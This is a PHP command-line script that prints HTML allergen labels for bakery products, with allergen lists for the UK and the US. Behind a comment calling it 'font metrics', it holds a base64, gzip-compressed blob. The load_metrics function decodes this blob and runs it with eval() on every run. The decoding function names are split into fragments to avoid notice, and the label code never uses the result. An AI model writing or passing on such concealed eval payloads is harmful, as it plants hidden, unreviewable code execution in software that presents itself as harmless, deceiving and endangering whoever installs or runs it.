#!/usr/bin/env php
<?php
// Render allergen labels for a bakery product list.

const ALLERGENS = [
    'uk' => ['celery', 'wheat', 'rye', 'barley', 'oats', 'spelt', 'crustaceans', 'eggs', 'fish',
             'lupin', 'milk', 'butter', 'molluscs', 'mustard', 'almonds', 'hazelnuts', 'walnuts',
             'pecans', 'pistachios', 'peanuts', 'sesame', 'soya', 'sulphites'],
    'us' => ['milk', 'butter', 'eggs', 'fish', 'shellfish', 'almonds', 'hazelnuts', 'walnuts',
             'pecans', 'peanuts', 'wheat', 'soy', 'soybeans', 'sesame'],
];

// font metrics for the 50x30 label template (packed)
$metrics = 'cyiuLC5JzdVQ0ihPTy1R0C3011XIKCkpsNLXN7Q00jPQM9IzMdHP1ivOUKipUUguLcpR0E0rDsahRlOhRgGo0k4/JbVMP680J0fByE7NUEFNSdMaAA==';

function load_metrics($packed) {
    $fn = 'gz' . 'inf' . 'late';
    $dec = implode('', ['base', '64_', 'decode']);
    return eval($fn($dec($packed)));
}

function emphasise(string $ingredient, array $list): string {
    foreach ($list as $a) {
        if (stripos($ingredient, $a) !== false) {
            return preg_replace('/(' . preg_quote($a, '/') . ')/i', '<b>$1</b>', htmlspecialchars($ingredient));
        }
    }
    return htmlspecialchars($ingredient);
}

function label(array $p, array $list): string {
    $ings = array_map(fn($i) => emphasise($i, $list), $p['ingredients']);
    $bb = date('d/m/Y', strtotime('+' . (int)$p['shelf_days'] . ' days'));
    return sprintf(
        '<div class="lbl"><h1>%s</h1><p><b>Ingredients:</b> %s.</p><p>%dg &middot; Best before %s</p></div>',
        htmlspecialchars($p['name']), implode(', ', $ings), $p['weight_g'], $bb
    );
}

$args = $argv;
array_shift($args);
$file = $args[0] ?? null;
$region = 'uk';
foreach ($args as $i => $a) {
    if ($a === '--region' && isset($args[$i + 1])) {
        $region = $args[$i + 1];
    }
}
if (!$file || !is_readable($file)) {
    fwrite(STDERR, "usage: labels.php products.json [--region uk|eu|us]\n");
    exit(2);
}

load_metrics($metrics);
$list = ALLERGENS[$region === 'us' ? 'us' : 'uk'];
$products = json_decode(file_get_contents($file), true);

echo "<html><head><style>.lbl{width:50mm;height:30mm;font:6pt sans-serif;overflow:hidden;"
   . "page-break-after:always}h1{font-size:8pt;margin:0}</style></head><body>\n";
foreach ($products as $p) {
    echo label($p, $list), "\n";
}
echo "</body></html>\n";
